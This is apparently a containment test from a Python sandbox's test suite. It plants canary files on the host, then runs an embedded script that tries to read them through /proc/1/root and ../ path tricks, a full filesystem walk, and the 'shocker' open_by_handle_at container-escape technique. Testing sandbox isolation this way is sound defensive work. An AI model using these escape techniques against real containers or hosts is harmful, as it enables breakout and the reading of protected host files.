#!/usr/bin/python3
"""Read host canary files: root-only ones, world-readable ones outside the profile's paths.

Canaries: a 0600 file in a 0700 root directory under /tmp; a world-readable file in a
world-readable directory in the host's /tmp, /var/tmp, /dev/shm and /etc (nothing but the mount
layout keeps uid 65534 from those). The script tries every path directly, through
/proc/1/root, /proc/self/root, /proc/self/cwd and ../ chains, walks the whole sandbox tree
(outside the read-only system binds) for any file that carries the canary prefix, and tries
the "shocker" open_by_handle_at() with each canary's real inode and generation against the
bound /usr mount. Contained when no canary secret appears anywhere in the output.
"""
import fcntl
import os
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import attack as A

SCRIPT = r'''
import os, stat
paths = ARGS[0].split(",")
handles = [tuple(int(x) for x in h.split(":")) for h in ARGS[1].split(",") if h]

def show(label, data):
    print("READ", label, data[:400], flush=True)

for p in paths:
    d = os.path.dirname(p)
    for variant in (p, "/proc/1/root" + p, "/proc/self/root" + p, "/proc/self/cwd/../../.." + p,
                    "/../../.." + p, "/proc/2/root" + p, "/dev/fd/../../.." + p):
        r = attempt("open " + variant, lambda v=variant: open(v, "rb").read())
        if isinstance(r, bytes):
            show(variant, r)
    attempt("listdir " + d, os.listdir, d)

# Anything readable that mentions a canary, outside the host's system binds.
skip = ("/usr", "/lib", "/lib64", "/bin", "/sbin", "/proc", "/sys")
for top in os.listdir("/"):
    root = "/" + top
    if root in skip:
        continue
    for dirpath, dirnames, filenames in os.walk(root):
        for name in filenames:
            fp = os.path.join(dirpath, name)
            try:
                if not stat.S_ISREG(os.stat(fp).st_mode):
                    continue  # pipes (/dev/stdout...) would block
                with open(fp, "rb") as f:
                    data = f.read(1 << 20)
            except OSError:
                continue
            if b"CANARY-" in data:
                show(fp, data)

# "Shocker": open a host inode by handle through the bound /usr mount (needs
# CAP_DAC_READ_SEARCH in the initial namespace).
mount_fd = os.open("/usr", os.O_RDONLY | os.O_DIRECTORY)
probe = ctypes.create_string_buffer(8 + 128)
struct_hdr = ctypes.c_uint * 2
ctypes.memmove(probe, (ctypes.c_uint * 1)(128), 4)
mount_id = ctypes.c_int(0)
note("name_to_handle_at /usr", syscall(303, -100, b"/usr", probe, ctypes.byref(mount_id), 0))
for ino, gen in handles:
    for htype in (1, 0x81, 2):
        fh = ctypes.create_string_buffer(8 + 8)
        ctypes.memmove(fh, (ctypes.c_uint * 4)(8, htype, ino, gen), 16)
        fd = syscall(304, mount_fd, fh, os.O_RDONLY)
        note("open_by_handle_at %d type %d" % (ino, htype), fd)
        if fd >= 0:
            show("handle %d" % ino, os.read(fd, 4096))
            os.close(fd)
note("done", 0)
'''


def generation(path) -> int:
    with open(path, "rb") as f:
        buf = bytearray(8)
        try:
            fcntl.ioctl(f.fileno(), 0x80087601, buf)  # FS_IOC_GETVERSION
        except OSError:
            return 0
        return struct.unpack("<q", bytes(buf))[0] & 0xFFFFFFFF


def test():
    judge = A.Judge("host canary files (root-only, world-readable, by path, /proc, handle)")
    canaries = {}
    locked = A.private_dir()
    canaries["root-only canary"] = A.canary(locked, mode=0o600)
    for parent in ("/tmp", "/var/tmp", "/dev/shm"):
        if os.path.isdir(parent):
            d = A.shared_dir(parent)
            canaries[f"world-readable canary in {parent}"] = A.canary(d)
    etc_path = f"/etc/pysandbox-canary-{A.new_marker()[-12:]}"
    canaries["world-readable canary in /etc"] = A.canary("/etc", os.path.basename(etc_path))

    paths = [str(p) for p, _ in canaries.values()]
    handles = []
    usr_dev = os.stat("/usr").st_dev
    for p in paths:
        st = os.stat(p)
        if st.st_dev == usr_dev:
            handles.append(f"{st.st_ino}:{generation(p)}")

    sb = A.Sandbox(SCRIPT, [",".join(paths), ",".join(handles)])
    o = sb.run()
    A.check_behaved(judge, sb, allowed=(0,), expect_notes=["done"])
    A.check_secrets(judge, o, {name: secret for name, (_, secret) in canaries.items()})
    judge.done(o.describe())


if __name__ == "__main__":
    A.main(test)
